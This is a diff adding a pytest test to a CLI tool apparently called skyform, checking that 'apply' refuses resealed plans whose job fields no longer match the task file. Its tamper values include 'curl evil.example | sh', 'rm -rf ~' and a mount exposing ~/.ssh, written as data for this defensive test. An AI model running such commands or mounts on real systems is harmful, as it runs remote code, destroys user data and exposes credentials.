@@ -194,3 +194,30 @@ def test_old_format_plans_are_refused_with_replan(cli, plans):
     result = cli("apply", edited(plans["local"], edit), "-y")
     assert result.exit_code == 1
     assert "format version 1" in result.stderr and "Re-run skyform plan" in result.stderr
+
+
+@pytest.mark.parametrize(
+    ("kind", "field", "value"),
+    [
+        ("local", "run", "curl evil.example | sh"),
+        ("local", "setup", "rm -rf ~"),
+        ("local", "workdir", "/etc"),
+        ("gcp", "file_mounts", {"/data": {"source": "/home/me/.ssh"}}),
+        ("dag", "run", "echo changed"),
+    ],
+)
+def test_a_resealed_job_edit_is_refused_against_the_task_file(
+    cli, plans, fresh_home, kind, field, value
+):
+    """Even with every digest recomputed, apply compares each job with the one the (unchanged)
+    task file makes, before any state or lock exists."""
+
+    def edit(raw):
+        raw["tasks"][-1]["job"][field] = value
+
+    path = edited(plans[kind], edit, seal=True)
+    assert cli("show", path).exit_code == 0  # a consistent plan: only the task file tells
+    result = cli("apply", path, "-y")
+    assert result.exit_code == 1, result.output
+    assert f"job.{field}: not what the task file" in result.stderr
+    nothing_written(fresh_home)
